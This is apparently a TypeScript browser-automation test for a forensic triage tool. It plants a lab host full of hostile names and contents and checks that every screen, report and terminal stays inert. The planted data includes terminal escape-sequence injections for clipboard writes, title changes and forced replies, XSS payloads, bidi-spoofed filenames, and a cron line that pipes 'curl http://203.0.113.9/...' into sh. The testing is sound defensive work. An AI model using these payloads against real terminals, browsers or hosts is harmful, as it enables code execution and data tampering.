// A host that talks to the screen instead of the responder: names, command lines, jobs, files, logins, its very own name and its terminal are full of what
// terminals and browsers obey. On every screen, in the report and in the bundle it must be inert: shown, never an element, never obeyed, never hidden.

import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { pathToFileURL } from 'node:url'
import type { Page } from 'playwright-core'
import { beforeAll, expect, it } from 'vitest'
import { barriers, lookAt, openBrowser } from '../page/browser.ts'
import { stockToolsAccept } from '../page/bundle.ts'
import { atEveryWindow } from '../page/desk.ts'
import { alive, marker, mentions, overflow } from '../page/inert.ts'
import type { Person } from '../page/person.ts'
import type { RangeHost } from '../range/host.ts'
import { put } from '../range/scenarios/plant.ts'

const patience = 120_000

/** What is planted everywhere: each part is obeyed or hidden by something that people read with. */
const storms: readonly Buffer[] = [
  Buffer.from(`${marker}\u001b]0;${marker}\u0007\u001b]52;c;${btoa(marker)}\u0007\u001b[2J\u001b[31m\u009b5n`),
  Buffer.from(`<img src=x onerror=alert('${marker}')><script>alert('${marker}')<!--&lt;"' ${marker}`),
  Buffer.from(`${marker}\u202egpj.sh\u2066\u2069\u200e\u061c`),
  Buffer.from(`${marker}\n\tsecond line\r\u2028\u0085third`),
  Buffer.from(`${marker}\u200b\u200d\ufeff\u00ad\u2060\u{e0041}`),
  Buffer.concat([Buffer.from(marker), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80])]),
]
/** The longest argument Linux hands to a program, its end included. */
const longest = 131_072

/** Sequences that other terminals answer by typing into the shell, and some they obey. */
const answers = [
  `\u001b]0;${marker}-title\u0007`,
  `\u001b]52;c;${btoa(marker)}\u0007`,
  '\u001b]52;c;?\u0007',
  '\u001b]4;1;?\u0007\u001b]10;?\u0007\u001b]11;?\u0007',
  '\u001b[21t\u001b[20t\u001b[18t\u001b[14t',
  '\u001bP$qm\u001b\\\u001bP+q544e\u001b\\',
  '\u001b[>q\u001b[=c\u001b[x\u001b[?1$p\u001b[?u',
  '\u0005\u001bZ',
  `\u001b]8;;http://127.0.0.1:1/${marker}\u0007${marker}-link\u001b]8;;\u0007`,
  `\u001b[?1004h\u001b[?2004h\u001b]7;file:///${marker}\u0007\u001b]1337;File=inline=1:AAAA\u0007`,
].join('')

atEveryWindow('text of a hostile host', { name: 'hostile' }, (desk) => {
  const bundle = join(desk.home, 'bundle.zip')
  const left: string[] = []
  const dialogs: string[] = []
  let host: RangeHost
  let page: Page
  let me: Person

  beforeAll(async () => {
    ;({ page, me } = desk)
    host = await desk.boot({ name: 'hostile-text', plant })
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(desk.origin) && !/^(?:blob|data):/.test(url)) left.push(url)
    })
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await me.newCase({ number: '2026-0144', customer: 'Hengtai Logistics', examiner: 'Li Wei' })
  })

  it('is inert in the host list and on the findings, each of them opened', async () => {
    await me.addHost(`ssh -i ${host.rootKey} root@${host.address}`)
    await me.triage()
    const rows = page.getByRole('main').getByRole('row')
    await rows.filter({ hasText: marker }).first().waitFor({ timeout: patience })
    await lookAt(page, 'hostile-findings')
    await inert()
    const table = page.getByRole('grid', { name: me.say('findings', 'findings') })
    const findings = Number(await table.getAttribute('aria-rowcount')) - 1
    await table.focus()
    let read = 0
    for (let at = 0; at < findings; at++) {
      await page.keyboard.press('ArrowDown')
      const opened = page.getByRole('article').first()
      await opened.waitFor()
      if ((await opened.textContent())?.includes(marker) === true) read++
      expect(await alive(page)).toEqual([])
    }
    expect(read).toBeGreaterThan(storms.length)
    await lookAt(page, 'hostile-finding')
    await inert()
  })

  it('is inert among the processes, a command line of 128 KiB included, as list, as tree and in detail', async () => {
    await view('processes')
    await page.getByLabel(me.say('findings', 'processFilter')).fill(marker)
    const table = page.getByRole('grid', { name: me.say('findings', 'processes') })
    await table.focus()
    for (let at = 0; at <= storms.length; at++) {
      await page.keyboard.press('ArrowDown')
      await page.getByRole('article').first().waitFor()
      expect(await alive(page)).toEqual([])
    }
    await lookAt(page, 'hostile-process')
    await inert()
    await page.getByText(me.say('findings', 'tree'), { exact: true }).click()
    await page.getByLabel(me.say('findings', 'processFilter')).fill('')
    await table.focus()
    await page.keyboard.press('End')
    await page.keyboard.press('Home')
    await lookAt(page, 'hostile-tree')
    await inert()
    expect(await table.evaluate((box) => box.scrollHeight > box.clientHeight)).toBe(true)
    await table.evaluate((box) => {
      box.scrollTop = box.scrollHeight
    })
    await page.getByRole('row').last().waitFor()
    expect(await table.evaluate((box) => box.scrollTop)).toBeGreaterThan(0)
  })

  it.each(['sockets', 'starts', 'hostView'] as const)('is inert under %s', async (name) => {
    await view(name)
    await page.waitForTimeout(500)
    await lookAt(page, `hostile-${name}`)
    await inert()
  })

  it('is inert in the locker: list, text, hex, provenance', async () => {
    await me.goTo('evidence')
    const table = page.getByRole('grid', { name: me.say('evidence', 'title') })
    await table.getByRole('row').nth(3).waitFor({ timeout: patience })
    const rows = Number(await table.getAttribute('aria-rowcount')) - 1
    await table.focus()
    let read = 0
    for (let at = 0; at < rows; at++) {
      await page.keyboard.press('ArrowDown')
      for (const tab of ['hex', 'about', 'preview'] as const) {
        await page.getByRole('tab', { name: me.say('evidence', tab), exact: true }).click()
        await page.waitForTimeout(400)
        expect(await alive(page)).toEqual([])
      }
      const anyway = me.button(me.say('evidence', 'previewAs'))
      if (await anyway.isVisible()) {
        await anyway.click()
        await page.waitForTimeout(400)
        expect(await alive(page)).toEqual([])
      }
      if (
        (await page.getByRole('region', { name: me.say('evidence', 'preview') }).textContent())?.includes(marker) ===
        true
      )
        read++
      await table.focus()
    }
    expect(read).toBeGreaterThan(0)
    await lookAt(page, 'hostile-evidence')
    await inert()
  })

  it('is inert on the timeline', async () => {
    await me.goTo('timeline')
    await page.waitForTimeout(1000)
    await lookAt(page, 'hostile-timeline')
    await inert()
  })

  it('is inert in the preview of the report', async () => {
    await me.goTo('report')
    const frame = page.locator('iframe')
    await frame.waitFor({ timeout: patience })
    await frame.contentFrame().getByText(marker).first().waitFor({ state: 'attached', timeout: patience })
    await lookAt(page, 'hostile-report')
    await inert()
  })

  it('is inert in the report of the bundle, opened by anyone', async () => {
    await me.saveBundle(bundle)
    const folder = stockToolsAccept(bundle, join(desk.home, 'unpacked'))
    const report = execFileSync('find', [folder, '-name', 'report.html']).toString().trim()
    expect(readFileSync(report, 'utf8')).toContain(marker)
    const { page: reader, context } = await openBrowser({ profile: join(desk.home, 'reader') })
    const asked: string[] = []
    reader.on('request', (request) => asked.push(request.url()))
    reader.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await reader.goto(pathToFileURL(report).href)
    expect(await mentions(reader)).toBe(true)
    expect(await alive(reader)).toEqual([])
    expect(asked).toEqual([pathToFileURL(report).href])
    await lookAt(reader, 'hostile-report-file')
    await context.close()
  })

  it('changes no title and no clipboard in a terminal, and types nothing into the host', async () => {
    put(host, '/root/storm', Buffer.concat([Buffer.from(answers), ...storms]))
    const title = await page.title()
    await page.evaluate(() => navigator.clipboard.writeText('mine'))
    await me.goTo('checklist')
    await page.keyboard.press('Control+Shift+X')
    await page.locator('.xterm').first().waitFor({ timeout: patience })
    // all that the storm makes the terminal say has been said when the words after it are drawn
    await page.keyboard.type('stty -icanon -echo; cat storm; echo; echo drawn-$((40+2)); cat > typed\n')
    await page.getByText('drawn-42').first().waitFor({ timeout: patience })
    await page.waitForTimeout(3000)
    await page.keyboard.press('Control+c')
    await page.keyboard.type('stty sane; clear; echo over-$((40+2))\n')
    await page.getByText('over-42').first().waitFor({ timeout: patience })
    await lookAt(page, 'hostile-terminal')
    expect(await page.title()).toBe(title)
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine')
    expect(readFileSync(join(host.dir, 'root/typed'), 'latin1')).toMatch(onlyWhatDrawingNeeds)
    await page.keyboard.type('exit\n')
    await page.getByText(me.say('terminal', 'ended')).waitFor({ timeout: patience })
  })

  it('asked for nothing outside, opened no dialog, broke no rule of the page', () => {
    expect({ left, dialogs, complaints: desk.complaints }).toEqual({ left: [], dialogs: [], complaints: [] })
  })

  async function view(name: 'findings' | 'processes' | 'sockets' | 'starts' | 'hostView'): Promise<void> {
    await page
      .getByRole('tablist', { name: me.say('findings', 'views') })
      .getByRole('tab', { name: new RegExp(`^${me.say('findings', name)}`) })
      .click()
  }

  /** The screen as it stands: the host's words are on it, and none of them is alive; it is whole and has no barrier. */
  async function inert(): Promise<void> {
    expect(await mentions(page)).toBe(true)
    expect(await alive(page)).toEqual([])
    expect(await overflow(page)).toBeLessThanOrEqual(0)
    expect(await barriers(page)).toEqual([])
  }
})

/** Cursor position, status and attributes: programs that draw wait for these. Nothing a host could choose the letters of. */
const onlyWhatDrawingNeeds = /^(?:\u001b\[[?>]?[\d;]*[cRn])*$/

/** A clean host whose names are hostile and whose programs only sleep. */
async function plant(host: RangeHost): Promise<void> {
  const folder = '/var/tmp/.x'
  const names = storms.map((storm) => Buffer.from(storm.toString('latin1').replaceAll('/', '|'), 'latin1'))
  mkdirSync(join(host.dir, folder), { recursive: true })
  const sleeper = readFileSync(join(host.dir, 'usr/bin/perl'))
  for (const name of names)
    writeFileSync(Buffer.concat([Buffer.from(`${join(host.dir, folder)}/`), name]), sleeper, { mode: 0o755 })
  const long = Buffer.alloc(longest - 1, `${storms[1]?.toString() ?? ''} `)
  const programs = names.map((name, at) => ({ name, words: at === 0 ? [long, ...storms] : storms }))
  // one a line: the program's name and its words, in hex; nothing on the way understands them
  put(
    host,
    '/root/programs',
    programs.map(({ name, words }) => [name, ...words].map((word) => word.toString('hex')).join(' ')).join('\n'),
  )
  put(
    host,
    '/root/start.pl',
    `open my $list, '<', '/root/programs'; while (<$list>) { chomp; my ($name, @words) = map { pack 'H*', $_ } split / /;
     next if fork; open STDIN, '<', '/dev/null'; open STDOUT, '>', '/dev/null'; open STDERR, '>', '/dev/null';
     exec { "${folder}/$name" } $name, '-e', 'sleep 3600', @words; exit 1 }
     my $called = pack 'H*', '${Buffer.concat([storms[1]?.subarray(0, 40) ?? Buffer.alloc(0), Buffer.from('\u202e\u001b[31m')]).toString('hex')}'; syscall 170, $called, length $called;`,
  )
  const logins: string[] = []
  for (const [at, storm] of storms.entries()) {
    const words = storm.toString('latin1').replaceAll(/[\n\r]/g, ' ')
    const line = `# ${words}\n0 0 30 2 * root curl -fsSL http://203.0.113.9/${marker} | sh # ${words}\n`
    put(host, `/etc/cron.d/${marker}-${String(at)}`, Buffer.from(line, 'latin1'), { daysOld: 0 })
    logins.push(
      ...Array<string>(12).fill(
        `${new Date().toISOString().slice(0, 19)}+00:00 host sshd[1]: Failed password for invalid user ${words} from 203.0.113.5 port 4${String(at)} ssh2`,
      ),
    )
  }
  put(host, '/var/log/auth.log', Buffer.from(`${logins.join('\n')}\n`, 'latin1'), { daysOld: 0 })
  const banner = Buffer.concat(storms)
  put(host, '/etc/ssh/banner', banner)
  put(host, '/etc/ssh/sshd_config.d/banner.conf', 'Banner /etc/ssh/banner\n')
  put(host, '/root/.bashrc', Buffer.from(`cat /etc/ssh/banner\n`))
  await host.startIn('cron.service', ['perl', '/root/start.pl'])
  await host.sh('systemctl reload ssh || systemctl reload sshd')
  const deadline = Date.now() + patience
  while (host.processes().filter(({ argv }) => argv.includes('sleep 3600')).length < names.length) {
    if (Date.now() > deadline) throw new Error('not all of the programs run')
    await sleep(200)
  }
}
